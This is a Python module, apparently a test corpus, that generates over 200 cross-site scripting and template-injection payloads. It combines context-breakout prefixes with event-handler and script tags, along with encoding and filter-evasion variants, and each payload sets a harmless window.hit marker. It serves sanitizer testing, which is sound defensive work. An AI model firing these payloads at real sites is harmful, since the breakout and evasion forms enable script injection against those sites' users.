"""200 texts and more that would run a script if any page took them for markup. Each sets ``window.hit``."""

from itertools import product

BEGINNINGS = (  # what a text might stand inside of, and how it would get out
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "--><!-- -->",
    "</option></select>",
    "</p></article>",
    '" autofocus x="',
    "\u2028",
    "]]>",
)
SCRIPTS = (
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<body onload=window.hit=1>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<input autofocus onfocus=window.hit=1>",
    "<details open ontoggle=window.hit=1>",
    "<video><source onerror=window.hit=1></video>",
    "<a href=javascript:window.hit=1 autofocus onfocus=window.hit=1>x</a>",
    "<math><mi xlink:href='javascript:window.hit=1' onclick=window.hit=1>",
    "<template><script>window.hit=1</script></template>",
    "<style>@import'javascript:window.hit=1'</style><style onload=window.hit=1></style>",
    "<object data='javascript:window.hit=1'></object>",
    "<marquee onstart=window.hit=1>",
    "<link rel=stylesheet href='data:,*{}' onload=window.hit=1>",
)
OTHERS = (
    "javascript:window.hit=1",
    "data:text/html,<script>opener.hit=1</script>",
    "{{constructor.constructor('window.hit=1')()}}",
    "${window.hit=1}",
    "<%= window.hit=1 %>",
    "{% raw %}{{7*7}}",
    "';window.hit=1;//",
    '";window.hit=1;//',
    "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "＜script＞window.hit=1＜/script＞",
    "<scr<script>ipt>window.hit=1</scr</script>ipt>",
    "<ScRiPt sRc=data:,window.hit=1></sCrIpT>",
    "?lit$1$<img src=x onerror=window.hit=1>",
    "<!--?lit$1$--><img src=x onerror=window.hit=1>",
    '<!--<script>"><img src=x onerror=window.hit=1>',
)


def payloads() -> list[str]:
    """Return them all."""
    return [*(begin + script for begin, script in product(BEGINNINGS, SCRIPTS)), *OTHERS]
